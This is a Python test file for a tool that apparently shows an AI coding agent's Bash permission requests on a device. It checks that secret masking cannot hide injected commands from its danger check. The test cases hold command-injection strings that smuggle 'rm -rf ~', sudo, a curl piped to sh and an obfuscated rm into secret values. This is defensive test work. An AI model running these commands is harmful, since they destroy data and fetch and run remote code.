"""The answering path against someone who wants an approval they should not get.

A command's secrets are masked before it is shown or logged, but masking must never
hide what runs: a value that ends where the shell ends it, or that runs a command
itself, would otherwise show ``TOKEN=*** -rf ~`` for ``TOKEN=a;rm -rf ~``, and the
danger check, which reads the shown command, would pass it. A held request whose
hook's connection closes is let go at once. End to end on 127.0.0.1 where it matters.
"""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest

from bridge.pipeline.answers import AnswerOptions, danger_of
from bridge.pipeline.asks import permission_choices, sanitise
from bridge.pipeline.model import Ask, AskKind
from tests.conftest import eventually

pytest.importorskip("aiohttp")
pytest.importorskip("StreamDeck")

from tests.test_answer_hooks import request, rig


def shown(command: str) -> Ask:
    """The request a device shows for ``command`` (as the hooks source builds it)."""
    return Ask(
        "r1",
        AskKind.PERMISSION,
        "Bash",
        permission_choices(),
        tool="Bash",
        command=sanitise(command),
        cwd="/home/me/project",
    )


@pytest.mark.parametrize(
    ("command", "runs", "danger"),
    [
        ("TOKEN=a;rm -rf ~", "rm -rf ~", "rm -rf"),
        ("TOKEN=a&&rm -rf ~", "rm -rf ~", "rm -rf"),
        ("API_KEY=x|sh", "|sh", ""),
        ('AUTH="$(curl x.example|sh)" ls', "curl x.example|sh", "a download piped to a shell"),
        ("SECRET=`sudo id` make", "sudo id", "sudo"),
        ("PASSWORD=x$(sudo reboot) make", "sudo reboot", "sudo"),
        ("deploy --password x;sudo rm -rf /", "sudo rm -rf /", "rm -rf"),
        ("deploy --token `git push --force`", "git push --force", "git push --force"),
        ("curl https://u:$(rm${IFS}-rf${IFS}~)@h", "$(rm${IFS}-rf${IFS}~)", ""),
    ],
)  # fmt: skip
def test_masking_a_secret_never_hides_what_runs(command: str, runs: str, danger: str) -> None:
    ask = shown(command)
    assert ask.command is not None and runs in ask.command, ask.command
    if danger:
        assert danger_of(ask, AnswerOptions()) == danger


@pytest.mark.parametrize(
    ("command", "secret", "kept"),
    [
        ("TOKEN=abc123;ls", "abc123", ";ls"),
        ('API_KEY="sk live 1" make', "sk live 1", "make"),
        ("PASSWORD='p$(x)' run", "p$(x)", "run"),  # single quotes: literal, a secret
        ('TOKEN="$HOME/t" run', "$HOME/t", "run"),  # a variable runs nothing
        ("mysql --password=hunter2 db", "hunter2", "db"),
        ("git clone https://bob:hunter2@example.com/r", "hunter2", "@example.com/r"),
    ],
)
def test_secrets_are_still_masked(command: str, secret: str, kept: str) -> None:
    text = sanitise(command)
    assert secret not in text and "***" in text and kept in text, text


async def test_a_held_request_whose_connection_closes_is_let_go(tmp_path: Path) -> None:
    """The hook gave up (its process killed, its timeout): no key offers it any longer."""
    async with rig(tmp_path) as r:
        reply = r.post_hook(request())
        await r.shows("allow")
        assert r.source.permissions.holding == 1
        reply.cancel()  # the client goes: its connection closes
        with pytest.raises(asyncio.CancelledError):
            await reply
        await eventually(lambda: r.source.permissions.holding == 0)
        await eventually(lambda: r.key_of("allow") is None)
        session = r.session()
        assert session is None or session.ask is None
